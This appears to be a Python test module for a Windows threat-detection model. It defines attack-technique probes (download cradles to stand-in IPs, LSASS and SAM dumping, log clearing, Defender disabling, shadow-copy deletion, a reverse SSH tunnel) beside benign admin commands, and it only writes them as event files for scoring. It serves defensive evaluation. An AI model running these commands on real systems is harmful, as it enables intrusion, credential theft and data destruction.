"""Hand-written lone-command probes: one technique per "recording", as Security 4688 shows it.

Why: the model is judged on other labs' recordings, many of them single-technique files whose only
process creation is one to three commands under a parent the log never saw start (Security 4688 or
Sysmon event 1). The simulated lone trees (`sim/win_lone.py`) are generated; this is a fixed,
readable check written separately, one probe per documented technique that such collections record
through process creation (the tactic/technique list of public per-technique EVTX collections,
ATT&CK and LOLBAS usage notes), plus benign commands admins and installers type with the same tools.
`ringfence train`/`evaluate` report how many attack probes alert, how many with the right tactic,
and how many benign probes alert.

These lines were written for this project by the same author as the generators, from the same
public descriptions, so the numbers are optimistic for unseen labs; they are never training data.
Each probe runs through `ringfence hunt`'s path (a BehaviorEvent JSON Lines file per probe).
"""

from __future__ import annotations

import tempfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

from pipeline.eventkit import EventKit
from schemas.codec import encode_event
from schemas.events import BehaviorEvent

BENIGN = "Benign"
_S32 = "C:\\Windows\\System32\\"


@dataclass(frozen=True, slots=True)
class Probe:
    """One technique's commands (image, command line), in order, under one unseen parent."""

    name: str
    tactic: str  # a Tactic value, or "Benign"
    commands: tuple[tuple[str, str], ...]
    parent_image: str | None = None  # None: 4688 without ParentProcessName


def _p(name: str, tactic: str, *commands: str, parent: str | None = None) -> Probe:
    """`commands`: "image|command line"; a bare image name means System32."""
    steps = []
    for text in commands:
        image, _, line = text.partition("|")
        steps.append((image if "\\" in image else _S32 + image, line))
    return Probe(name, tactic, tuple(steps), parent)


_PS = "WindowsPowerShell\\v1.0\\powershell.exe"
_CMD = _S32 + "cmd.exe"

# fmt: off
ATTACK_PROBES: tuple[Probe, ...] = (
    _p("wmiexec output to admin share", "Execution",
       "cmd.exe|cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1718034412.55 2>&1",
       parent=_S32 + "wbem\\WmiPrvSE.exe"),
    _p("interactive at job", "Execution", "at.exe|at 14:20 /interactive cmd.exe"),
    _p("schtasks as SYSTEM", "Execution",
       "schtasks.exe|schtasks /create /tn \"Updater\" /tr \"C:\\Users\\Public\\up.exe\" /sc onlogon /ru SYSTEM /f"),
    _p("encoded PowerShell from cmd", "Execution",
       f"{_PS}|powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
       parent=_CMD),
    _p("SQL server spawns a shell", "Execution",
       "cmd.exe|cmd.exe /c powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://10.1.2.3/a')\"",
       parent="C:\\Program Files\\Microsoft SQL Server\\MSSQL12.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe"),
    _p("Edge headless download", "Execution",
       "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe|msedge.exe --headless --disable-gpu "
       "--dump-dom http://203.0.113.7/payload.b64", parent=_CMD),
    _p("PsExec to a remote host", "Execution",
       "C:\\Tools\\PsExec64.exe|PsExec64.exe -accepteula \\\\srv-02 -s cmd.exe /c ipconfig"),
    _p("SPN added to an account", "Persistence", "setspn.exe|setspn -a HTTP/web01.corp.local svc_sql"),
    _p("local account created", "Persistence", "net.exe|net user backdoor P@ssw0rd1 /add"),
    _p("service failure command backdoor", "Persistence",
       "sc.exe|sc failure Spooler reset= 0 actions= run/1000 command= \"C:\\Users\\Public\\svc.exe\""),
    _p("service ImagePath via registry", "Persistence",
       "reg.exe|reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\Fax /v ImagePath /t REG_EXPAND_SZ "
       "/d \"C:\\ProgramData\\fax.exe\" /f"),
    _p("service binpath changed", "Persistence", "sc.exe|sc config Fax binpath= \"C:\\ProgramData\\fax.exe\""),
    _p("service created", "Persistence",
       "sc.exe|sc create WinUpdSvc binPath= \"C:\\Users\\Public\\wupd.exe\" start= auto"),
    _p("netsh helper DLL", "Persistence", "netsh.exe|netsh add helper C:\\Users\\Public\\helper.dll"),
    _p("symbolic link evaluation enabled", "Persistence", "fsutil.exe|fsutil behavior set SymlinkEvaluation R2L:1 R2R:1"),
    _p("DNS server plugin DLL", "Persistence",
       "dnscmd.exe|dnscmd dc01 /config /serverlevelplugindll \\\\10.0.0.5\\share\\dns.dll"),
    _p("service permissions opened", "Persistence",
       "sc.exe|sc sdset Fax D:(A;;CCLCSWRPWPDTLOCRRC;;;WD)"),
    _p("sticky keys debugger", "PrivilegeEscalation",
       "reg.exe|reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\" "
       "/v Debugger /t REG_SZ /d \"C:\\Windows\\System32\\cmd.exe\" /f"),
    _p("sticky keys shell", "PrivilegeEscalation", "cmd.exe|cmd.exe", parent=_S32 + "sethc.exe"),
    _p("RunasCs", "PrivilegeEscalation",
       "C:\\Users\\Public\\RunasCs.exe|RunasCs.exe administrator Passw0rd! cmd.exe -r 10.0.0.9:4444"),
    _p("print spooler spawns a shell", "PrivilegeEscalation", "cmd.exe|cmd.exe /c whoami", parent=_S32 + "spoolsv.exe"),
    _p("event log cleared", "DefenseEvasion", "wevtutil.exe|wevtutil cl Security"),
    _p("event log cleared by WMI", "DefenseEvasion",
       "wbem\\WMIC.exe|wmic nteventlog where filename='security' call cleareventlog"),
    _p("BITS job downloads", "DefenseEvasion",
       "bitsadmin.exe|bitsadmin /transfer job1 /download /priority high http://198.51.100.4/a.exe C:\\Users\\Public\\a.exe"),
    _p("audit policy cleared", "DefenseEvasion", "auditpol.exe|auditpol /clear /y"),
    _p("audit policy disabled", "DefenseEvasion",
       "auditpol.exe|auditpol /set /category:\"Logon/Logoff\" /success:disable /failure:disable"),
    _p("firewall off", "DefenseEvasion", "netsh.exe|netsh advfirewall set allprofiles state off"),
    _p("firewall opened for SSH", "DefenseEvasion",
       "netsh.exe|netsh advfirewall firewall add rule name=\"sshd\" dir=in action=allow protocol=TCP localport=22"),
    _p("WSL enabled", "DefenseEvasion",
       "dism.exe|dism /online /enable-feature /featurename:Microsoft-Windows-Subsystem-Linux /norestart"),
    _p("Defender disabled", "DefenseEvasion",
       "reg.exe|reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f"),
    _p("obfuscated PowerShell payload", "DefenseEvasion",
       f"{_PS}|powershell.exe -exec bypass -noni -nop -w 1 -C \"IEX ([char[]](73,69,88) -join '')\"", parent=_CMD),
    _p("LSASS dump with comsvcs", "CredentialAccess",
       "rundll32.exe|rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full"),
    _p("task manager on LSASS", "CredentialAccess", "taskmgr.exe|taskmgr.exe /4", parent=_S32 + "winlogon.exe"),
    _p("NTDS IFM", "CredentialAccess", "ntdsutil.exe|ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\temp\\ifm\" q q"),
    _p("DSRM logon behaviour", "CredentialAccess",
       "reg.exe|reg add HKLM\\System\\CurrentControlSet\\Control\\Lsa /v DsrmAdminLogonBehavior /t REG_DWORD /d 2 /f"),
    _p("diskshadow script", "CredentialAccess", "diskshadow.exe|diskshadow.exe /s C:\\Users\\Public\\shadow.txt"),
    _p("WDigest enabled", "CredentialAccess",
       "reg.exe|reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential "
       "/t REG_DWORD /d 1 /f"),
    _p("pktmon capture", "CredentialAccess", "PktMon.exe|pktmon start --etw -p 0 -f C:\\Users\\Public\\c.etl"),
    _p("SAM hive saved", "CredentialAccess", "reg.exe|reg save HKLM\\SAM C:\\Users\\Public\\sam.hive"),
    _p("firewall configuration enumerated", "Discovery",
       "netsh.exe|netsh advfirewall show allprofiles", "netsh.exe|netsh firewall show state"),
    _p("domain groups enumerated", "Discovery",
       "net.exe|net group \"domain admins\" /domain", "net.exe|net localgroup administrators"),
    _p("audit policy collected", "Discovery", "auditpol.exe|auditpol /get /category:*"),
    _p("SPN enumeration", "Discovery", "setspn.exe|setspn -T corp.local -Q */*"),
    _p("users enumerated", "Discovery", "net.exe|net user /domain", "net.exe|net user administrator /domain"),
    _p("shares enumerated", "Discovery", "net.exe|net view \\\\fs01 /all", "net.exe|net share"),
    _p("share opened to everyone", "Discovery", "net.exe|net share data=C:\\ /grant:everyone,full"),
    _p("password policy", "Discovery", "net.exe|net accounts /domain"),
    _p("net use with credentials", "LateralMovement",
       "net.exe|net use \\\\10.0.0.12\\C$ /user:corp\\administrator Passw0rd!"),
    _p("DCOM MMC spawns a shell", "LateralMovement", "cmd.exe|cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt",
       parent=_S32 + "mmc.exe"),
    _p("RDP session hijack", "LateralMovement", "tscon.exe|tscon 2 /dest:rdp-tcp#0"),
    _p("RDP port forwarding", "CommandAndControl",
       "netsh.exe|netsh interface portproxy add v4tov4 listenport=4444 listenaddress=0.0.0.0 connectport=3389 "
       "connectaddress=10.0.0.15"),
    _p("shadow copies deleted by WMI", "Impact", "wbem\\WMIC.exe|wmic shadowcopy delete /nointeractive"),
    _p("backups deleted", "Impact", "wbadmin.exe|wbadmin delete catalog -quiet"),
    _p("shadow copies deleted", "Impact", "vssadmin.exe|vssadmin delete shadows /all /quiet"),
    _p("recovery disabled", "Impact",
       "bcdedit.exe|bcdedit /set {default} recoveryenabled no", "bcdedit.exe|bcdedit /set {default} bootstatuspolicy ignoreallfailures"),
)

BENIGN_PROBES: tuple[Probe, ...] = (
    _p("ipconfig", BENIGN, "ipconfig.exe|ipconfig /all", parent=_CMD),
    _p("whoami", BENIGN, "whoami.exe|whoami", parent=_CMD),
    _p("own group membership", BENIGN, "whoami.exe|whoami /groups", parent=_CMD),
    _p("gpupdate", BENIGN, "gpupdate.exe|gpupdate /force"),
    _p("gpresult", BENIGN, "gpresult.exe|gpresult /r"),
    _p("map a drive", BENIGN, "net.exe|net use Z: \\\\fs01\\projects", parent=_S32 + "explorer.exe"),
    _p("service query", BENIGN, "sc.exe|sc query wuauserv"),
    _p("installer stops its service", BENIGN, "net.exe|net stop \"Acme Agent\"",
       parent="C:\\Windows\\Temp\\{8A2B}\\setup.exe"),
    _p("installer creates its service", BENIGN,
       "sc.exe|sc create AcmeAgent binPath= \"C:\\Program Files\\Acme\\agent.exe\" start= auto",
       parent="C:\\Windows\\Installer\\MSI4F2.tmp"),
    _p("installer opens its port", BENIGN,
       "netsh.exe|netsh advfirewall firewall add rule name=\"Acme Agent\" dir=in action=allow "
       "program=\"C:\\Program Files\\Acme\\agent.exe\" enable=yes",
       parent=_S32 + "msiexec.exe"),
    _p("interface status", BENIGN, "netsh.exe|netsh interface show interface"),
    _p("proxy settings", BENIGN, "netsh.exe|netsh winhttp show proxy"),
    _p("scheduled task list", BENIGN, "schtasks.exe|schtasks /query /fo LIST"),
    _p("updater task", BENIGN,
       "schtasks.exe|schtasks /create /tn \"GoogleUpdateTaskMachineUA\" /tr \"C:\\Program Files (x86)\\Google\\Update\\"
       "GoogleUpdate.exe /ua /installsource scheduler\" /sc hourly /f",
       parent="C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe"),
    _p("time sync", BENIGN, "w32tm.exe|w32tm /resync"),
    _p("tasklist filter", BENIGN, "tasklist.exe|tasklist /fi \"imagename eq outlook.exe\""),
    _p("systeminfo", BENIGN, "systeminfo.exe|systeminfo"),
    _p("ping", BENIGN, "PING.EXE|ping -n 4 fs01"),
    _p("dns flush", BENIGN, "ipconfig.exe|ipconfig /flushdns"),
    _p("app settings export", BENIGN, "reg.exe|reg export HKCU\\Software\\Acme C:\\Users\\jdoe\\acme.reg"),
    _p("app setting written", BENIGN,
       "reg.exe|reg add HKCU\\Software\\Acme\\Viewer /v Theme /t REG_SZ /d dark /f"),
    _p("event log query", BENIGN, "wevtutil.exe|wevtutil qe System /c:20 /rd:true /f:text"),
    _p("disk cleanup", BENIGN, "cleanmgr.exe|cleanmgr /sagerun:1"),
    _p("chkdsk", BENIGN, "chkdsk.exe|chkdsk C: /scan"),
    _p("robocopy backup", BENIGN, "Robocopy.exe|robocopy C:\\Users\\jdoe\\Documents \\\\fs01\\backup\\jdoe /MIR /R:1"),
    _p("printer list", BENIGN, "wbem\\WMIC.exe|wmic printer get name,default"),
    _p("bios serial", BENIGN, "wbem\\WMIC.exe|wmic bios get serialnumber"),
    _p("windows update scan", BENIGN, "UsoClient.exe|UsoClient StartScan", parent=_S32 + "svchost.exe"),
    _p("defender signature update", BENIGN,
       "C:\\Program Files\\Windows Defender\\MpCmdRun.exe|MpCmdRun.exe -SignatureUpdate"),
    _p("powershell profile script", BENIGN,
       f"{_PS}|powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1",
       parent=_S32 + "svchost.exe"),
)

SECOND_PROBES: tuple[Probe, ...] = (
    _p("certutil download", "CommandAndControl",
       "certutil.exe|certutil -urlcache -split -f http://10.0.0.5/a.exe C:\\Users\\Public\\a.exe"),
    _p("certutil decode", "DefenseEvasion", "certutil.exe|certutil -decode C:\\Users\\Public\\a.b64 C:\\Users\\Public\\a.exe"),
    _p("mshta url", "DefenseEvasion", "mshta.exe|mshta http://10.0.0.5/a.hta"),
    _p("regsvr32 squiblydoo", "DefenseEvasion", "regsvr32.exe|regsvr32 /s /n /u /i:http://10.0.0.5/a.sct scrobj.dll"),
    _p("rundll32 javascript", "DefenseEvasion",
       "rundll32.exe|rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();"
       "GetObject(\"script:http://10.0.0.5/a\")"),
    _p("forfiles indirect", "DefenseEvasion", "forfiles.exe|forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe"),
    _p("msiexec url", "DefenseEvasion", "msiexec.exe|msiexec /q /i http://10.0.0.5/a.msi"),
    _p("wmic process create", "Execution", "wbem\\WMIC.exe|wmic process call create \"C:\\Users\\Public\\a.exe\""),
    _p("wmic remote process", "LateralMovement",
       "wbem\\WMIC.exe|wmic /node:10.0.0.8 /user:administrator /password:P@ss process call create \"cmd /c c:\\a.exe\""),
    _p("schtasks remote", "LateralMovement",
       "schtasks.exe|schtasks /create /s 10.0.0.8 /tn upd /tr c:\\a.exe /sc once /st 00:00 /ru system"),
    _p("sc remote create", "LateralMovement", "sc.exe|sc \\\\10.0.0.8 create upd binpath= c:\\a.exe"),
    _p("reg save sam", "CredentialAccess", "reg.exe|reg save HKLM\\SAM C:\\Users\\Public\\sam.hiv"),
    _p("procdump lsass", "CredentialAccess",
       "C:\\Users\\Public\\procdump64.exe|procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\l.dmp"),
    _p("whoami privileges", "Discovery", "whoami.exe|whoami /priv"),
    _p("nltest dclist", "Discovery", "nltest.exe|nltest /dclist:corp.local"),
    _p("nltest trusts", "Discovery", "nltest.exe|nltest /domain_trusts"),
    _p("logged-on users", "Discovery", "quser.exe|quser"),
    _p("netstat", "Discovery", "NETSTAT.EXE|netstat -ano"),
    _p("antivirus discovery", "Discovery",
       "wbem\\WMIC.exe|wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName"),
    _p("usn journal deleted", "DefenseEvasion", "fsutil.exe|fsutil.exe usn deleteJournal /D /N C:"),
    _p("icacls everyone on sethc", "DefenseEvasion", "icacls.exe|icacls C:\\Windows\\System32\\sethc.exe /grant everyone:F"),
    _p("attrib hide", "DefenseEvasion", "attrib.exe|attrib +h +s C:\\Users\\Public\\a.exe"),
    _p("takeown sethc", "PrivilegeEscalation", "takeown.exe|takeown /f C:\\Windows\\System32\\sethc.exe"),
    _p("copy cmd over sethc", "PrivilegeEscalation",
       "cmd.exe|cmd.exe /c copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe"),
    _p("defender exclusion", "DefenseEvasion", f"{_PS}|powershell -c Add-MpPreference -ExclusionPath C:\\Users\\Public"),
    _p("defender realtime off", "DefenseEvasion", f"{_PS}|powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
    _p("firewall off with netsh", "DefenseEvasion", "netsh.exe|netsh advfirewall set allprofiles state off"),
    _p("defender service stopped", "DefenseEvasion", "net.exe|net stop WinDefend"),
    _p("fodhelper UAC bypass", "PrivilegeEscalation",
       "reg.exe|reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /d C:\\Users\\Public\\a.exe /f"),
    _p("run key", "Persistence",
       "reg.exe|reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d C:\\Users\\Public\\a.exe /f"),
    _p("logon task for the user", "Persistence", "schtasks.exe|schtasks /create /tn upd /tr C:\\Users\\Public\\a.exe /sc onlogon"),
    _p("BITS notify command", "Persistence", "bitsadmin.exe|bitsadmin /SetNotifyCmdLine job1 C:\\Users\\Public\\a.exe NULL"),
    _p("plink reverse tunnel", "CommandAndControl",
       "C:\\Users\\Public\\plink.exe|plink.exe -ssh -R 3389:127.0.0.1:3389 -l user -pw pass 203.0.113.9"),
    _p("7z archive with password", "Collection",
       "C:\\Program Files\\7-Zip\\7z.exe|7z.exe a -pSecret C:\\Users\\Public\\d.7z C:\\Users\\bob\\Documents\\*"),
    _p("database service stopped", "Impact", "net.exe|net stop MSSQLSERVER /y"),
    _p("forced reboot", "Impact", "shutdown.exe|shutdown /r /t 0 /f"),
    _p("sdelete", "Impact",
       "C:\\Users\\Public\\sdelete64.exe|sdelete64.exe -accepteula -s -q C:\\Users\\bob\\Documents"),
    _p("WinRM shell", "LateralMovement", "cmd.exe|cmd.exe /c whoami", parent=_S32 + "wsmprovhost.exe"),
    _p("web shell", "Persistence", "cmd.exe|cmd.exe /c whoami", parent=_S32 + "inetsrv\\w3wp.exe"),
    _p("Word macro shell", "Execution",
       "cmd.exe|cmd.exe /c powershell -w hidden -c iwr http://10.0.0.5/a -o a.exe",
       parent="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
    _p("rundll32 of a user DLL", "DefenseEvasion", "rundll32.exe|rundll32.exe C:\\Users\\Public\\a.dll,Start"),
    _p("utilman shell", "PrivilegeEscalation", "cmd.exe|cmd.exe", parent=_S32 + "utilman.exe"),
)
"""A second set of attack probes, written in session AC from the same public sources (ATT&CK, LOLBAS, the
tactic/technique list of public per-technique EVTX collections) before that session's changes: 17 of these
42 alerted with `ringfence-xgb-1.3-4cb2571784`. They were in view while that session chose its thresholds'
rule and the lone booster's `generic` floor (17 to 22 alerted with the settings it compared), so they
are no more a blind test than the first set; they widen it with LOLBin proxies and downloads, remote
execution, discovery that administrators also run, and shells under processes that never start one.
`ringfence train`/`evaluate` report them apart, so the first set's figures stay comparable."""
# fmt: on


TAIL_S = 600
"""The probes' second reading: the same file with an unrelated service start this many seconds later."""


def probe_events(probe: Probe, device: str = "probe-host", tail_s: int = 0) -> list[BehaviorEvent]:
    """The probe as an agent's 4688 mapper would publish it: starts under a parent never seen starting.

    `tail_s`: the log goes on that long after the commands, to one unrelated `svchost` start (a service
    host: never scored). A 4688 log reports no exits, so the commands look as if they ran until then, as
    they do in a recording that keeps logging after its technique; detection should not hinge on it."""
    kit = EventKit(device, step_ms=1500)
    extra = {} if probe.parent_image is None else {"parent_image": probe.parent_image}
    events = [
        kit.start(f"p{i}", image, line, parent="unseen-parent", **extra)
        for i, (image, line) in enumerate(probe.commands, 1)
    ]
    if tail_s:
        kit.advance(tail_s * 1000)
        events.append(kit.start("later", _S32 + "svchost.exe", "svchost.exe -k netsvcs -p", parent="services"))
    return events


def write_probes(probes: Sequence[Probe], directory: Path, tail_s: int = 0) -> Iterator[tuple[Probe, Path]]:
    """One BehaviorEvent JSON Lines file per probe (what `ringfence hunt` reads)."""
    for i, probe in enumerate(probes):
        path = directory / f"probe-{i:03d}.jsonl"
        path.write_bytes(b"".join(encode_event(e) + b"\n" for e in probe_events(probe, tail_s=tail_s)))
        yield probe, path


def temp_probe_files(
    probes: Sequence[Probe], tail_s: int = 0
) -> tuple[tempfile.TemporaryDirectory[str], list[tuple[Probe, Path]]]:
    """Probe files in a fresh temporary folder (the caller cleans it up)."""
    holder = tempfile.TemporaryDirectory(prefix="ringfence-probes-")
    return holder, list(write_probes(probes, Path(holder.name), tail_s))
